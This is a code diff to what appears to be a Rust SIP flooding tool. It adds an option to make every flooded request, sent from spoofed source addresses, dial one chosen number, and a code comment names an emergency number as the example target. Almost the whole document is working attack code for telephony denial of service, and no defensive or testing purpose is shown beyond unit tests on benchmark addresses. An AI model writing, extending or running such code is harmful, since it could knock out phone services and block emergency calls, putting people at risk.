@@ -42,6 +42,9 @@ pub struct FloodConfig {
     pub bounds: Bounds,
     /// Destination MAC; looked up in the neighbour table when absent.
     pub dst_mac: Option<[u8; 6]>,
+    /// The number every request dials (digits, e.g. an emergency number);
+    /// `None`: 10,000 numbers in turn from 44200000.
+    pub number: Option<String>,
 }
 
 impl FloodConfig {
@@ -58,6 +61,7 @@ impl FloodConfig {
                 ..Bounds::default()
             },
             dst_mac: None,
+            number: None,
         }
     }
 }
@@ -174,15 +178,20 @@ fn resolve_mac(
 fn flood_payload(
     out: &mut [u8],
     method: Method,
+    number: Option<&str>,
     src: SocketAddr,
     dst: SocketAddr,
     k: u64,
     pad_to: usize,
 ) -> Option<usize> {
     let mut o = MsgBuf::new(out);
+    let dial = |o: &mut MsgBuf| match number {
+        Some(n) => o.put(n.as_bytes()),
+        None => o.put_u64(4420_0000 + k % 10_000),
+    };
     o.put(method.as_bytes());
     o.put(b" sip:");
-    o.put_u64(4420_0000 + k % 10_000);
+    dial(&mut o);
     o.put(b"@");
     o.put_addr(dst);
     o.put(b" SIP/2.0\r\nVia: SIP/2.0/UDP ");
@@ -194,7 +203,7 @@ fn flood_payload(
     o.put(b">;tag=f");
     o.put_hex(k);
     o.put(b"\r\nTo: <sip:");
-    o.put_u64(4420_0000 + k % 10_000);
+    dial(&mut o);
     o.put(b"@");
     o.put_addr(dst);
     o.put(b">\r\nCall-ID: flood-");
@@ -363,7 +372,15 @@ pub fn flood(cfg: &FloodConfig, stop: &AtomicBool) -> Result<AttackReport, RawAt
             let src_ip = cfg.spoof.nth(k);
             let src_port = 1024 + (k.wrapping_mul(7919) % 60000) as u16;
             let src = SocketAddr::new(IpAddr::V4(src_ip), src_port);
-            let Some(n) = flood_payload(&mut payload, cfg.method, src, cfg.target, k, 0) else {
+            let Some(n) = flood_payload(
+                &mut payload,
+                cfg.method,
+                cfg.number.as_deref(),
+                src,
+                cfg.target,
+                k,
+                0,
+            ) else {
                 return;
             };
             frames.push(datagram(sender.macs, src, t, k as u16, &payload[..n]).build());
@@ -396,7 +413,8 @@ pub fn fragments(cfg: &FragmentsConfig, stop: &AtomicBool) -> Result<AttackRepor
             let src_ip = cfg.spoof.nth(k);
             let src_port = 1024 + (k.wrapping_mul(7919) % 60000) as u16;
             let src = SocketAddr::new(IpAddr::V4(src_ip), src_port);
-            let Some(n) = flood_payload(&mut payload, Method::Invite, src, cfg.target, k, size)
+            let Some(n) =
+                flood_payload(&mut payload, Method::Invite, None, src, cfg.target, k, size)
             else {
                 return;
             };
@@ -446,7 +464,7 @@ mod tests {
         let mut buf = [0u8; 4000];
         let src: SocketAddr = "198.18.200.1:4000".parse().unwrap();
         let dst: SocketAddr = "198.18.0.2:5060".parse().unwrap();
-        let n = flood_payload(&mut buf, Method::Invite, src, dst, 3, 3000).unwrap();
+        let n = flood_payload(&mut buf, Method::Invite, None, src, dst, 3, 3000).unwrap();
         assert_eq!(n, 3000);
         assert!(crate::sipmsg::parse(&buf[..n]).is_ok());
     }
@@ -458,7 +476,7 @@ mod tests {
         let src: SocketAddr = "198.18.200.1:4000".parse().unwrap();
         let dst: std::net::SocketAddrV4 = "198.18.0.2:5060".parse().unwrap();
         let mut buf = [0u8; 4000];
-        let n = flood_payload(&mut buf, Method::Invite, src, dst.into(), 3, size).unwrap();
+        let n = flood_payload(&mut buf, Method::Invite, None, src, dst.into(), 3, size).unwrap();
         (src, dst, datagram(MACS, src, dst, 3, &buf[..n]))
     }
 
